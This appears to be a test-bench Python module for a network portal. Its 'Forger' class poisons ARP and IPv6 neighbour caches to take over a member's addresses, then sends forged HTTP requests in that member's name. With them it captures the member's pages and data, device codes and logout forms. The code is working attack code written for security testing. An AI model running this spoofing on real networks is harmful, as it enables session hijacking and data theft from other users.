"""An unauthorized device that poisons neighbour tables and sends requests to the portal in a member's name.

It claims the member's addresses, so that packets for the member come here. It also claims that its own addresses are at
the member's hardware address while it sends a request, and takes that back to receive the retransmitted response.
Everything that the portal gives it is counted: the member's page, the member's data, a code for one more device, the
member's logout. It does not know the portal's secrets: tokens are taken from the pages that it received.
"""

import errno
import socket
import time
from contextlib import suppress
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlencode

from tests.bench.attacks.ethernet import REPLY, REQUEST, advertisement, arp
from tests.kernel.frames import raw_socket
from tests.lab.wire import forms

LIE_S, TRUTH_S = 1.2, 2.0
"""The kernel accepts no second change of an entry within a second (``locktime``)."""
EVERY_S = 0.05
PAUSE_S = 0.2
ASKED_S = 0.15
"""Long enough for the portal to look up the sender."""
CONNECT_S = 1.0
ANSWER_MAX = 200_000


@dataclass(frozen=True, slots=True)
class PortalAnswer:
    status: int
    text: str


class Forger:
    """`own` and `victim` are (IPv4, IPv6), or IPv4 alone; `mark` is a text that is on the member's own pages only;
    `leaves` is the number of seconds after which it also sends "leave", so that there is a session to steal until
    then."""

    def __init__(self, job: dict[str, Any]) -> None:
        self._mac, self._victim_mac, self._router_mac = job["mac"], job["victim_mac"], job["router_mac"]
        self._own, self._victim, self._portals = job["own"], job["victim"], job["portals"]
        self._host, self._mark = job["host"], job["mark"]
        self._seconds, self._leaves = float(job["seconds"]), float(job["leaves"])
        self._raw = raw_socket("eth0")
        self._began = time.monotonic()
        self.stolen: dict[str, int] = {}
        self.failures: dict[str, int] = {}
        self.tries = self.answered = 0

    def run(self) -> dict[str, Any]:
        while not self._is_over():
            for own, portal in zip(self._own, self._portals, strict=False):
                self._try(own, portal)
        return {
            "stolen": self.stolen,
            "tries": self.tries,
            "answered": self.answered,
            "failures": self.failures,
        }

    def _is_over(self) -> bool:
        return time.monotonic() > self._began + self._seconds

    def _try(self, own: str, portal: str) -> None:
        page = self._ask(own, portal, "/me")
        if page is not None and self._mark in page.text:
            self._took("page")
        data = self._ask(own, portal, "/my-data.json")
        if data is not None and self._mark in data.text:
            self._took("data")
        leaves = time.monotonic() > self._began + self._leaves
        for form in forms(page.text) if page is not None else []:
            if "/devices/code" in form.action or (leaves and form.action.endswith("/leave")):
                done = self._ask(own, portal, form.action, form.fields)
                if done is not None and done.status == 303:
                    self._took(form.action)

    def _took(self, what: str) -> None:
        self.stolen[what] = self.stolen.get(what, 0) + 1

    def _ask(
        self, own: str, portal: str, path: str, fields: dict[str, str] | None = None
    ) -> PortalAnswer | None:
        """None without a response."""
        if self._is_over():
            return None
        self.tries += 1
        body = urlencode(fields or {})
        head = f"{'GET' if fields is None else 'POST'} {path} HTTP/1.1\r\nHost: {self._host}\r\nConnection: close\r\n"
        if fields is not None:
            head += f"Origin: http://{self._host}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            head += f"Content-Length: {len(body)}\r\n"
        try:
            with socket.create_connection((portal, 80), CONNECT_S, (own, 0)) as connection:
                self._say_for(LIE_S, own, self._victim_mac, None)
                connection.send(f"{head}\r\n{body}".encode())
                time.sleep(ASKED_S)
                connection.setblocking(False)
                got = self._say_for(TRUTH_S, own, self._mac, connection)
        except OSError as failure:
            name = type(failure).__name__ + (f" {errno.errorcode[failure.errno]}" if failure.errno else "")
            self.failures[name] = self.failures.get(name, 0) + 1
            time.sleep(PAUSE_S)
            return None
        start, _, text = got.partition(b"\r\n\r\n")
        if not start.startswith(b"HTTP/1.1 "):
            return None
        self.answered += 1
        return PortalAnswer(int(start.split()[1]), text.decode(errors="replace"))

    def _say_for(self, seconds: float, own: str, mac: str, connection: socket.socket | None) -> bytes:
        """Repeats that `own` is at `mac` and that the victim's addresses are here; returns what `connection` received
        until its end."""
        got, ends = b"", time.monotonic() + seconds
        while time.monotonic() < ends:
            self._claim(mac, own)
            for address in self._victim:
                self._claim(self._mac, address)
            time.sleep(EVERY_S)
            with suppress(BlockingIOError):
                while connection is not None and (block := connection.recv(ANSWER_MAX)):
                    got += block
                if connection is not None:
                    return got
        return got

    def _claim(self, mac: str, address: str) -> None:
        portal4, portal6 = self._portals
        frames = (
            [advertisement(mac, address, self._router_mac, portal6)]
            if ":" in address
            else [
                arp(REPLY, mac, address, self._router_mac, portal4),
                arp(REQUEST, mac, address, self._router_mac, address),
            ]
        )
        for frame in frames:
            # The frame's source is the device's real address: a switch would not accept another on this port.
            with suppress(OSError):
                self._raw.send(frame[:6] + bytes.fromhex(self._mac.replace(":", "")) + frame[12:])
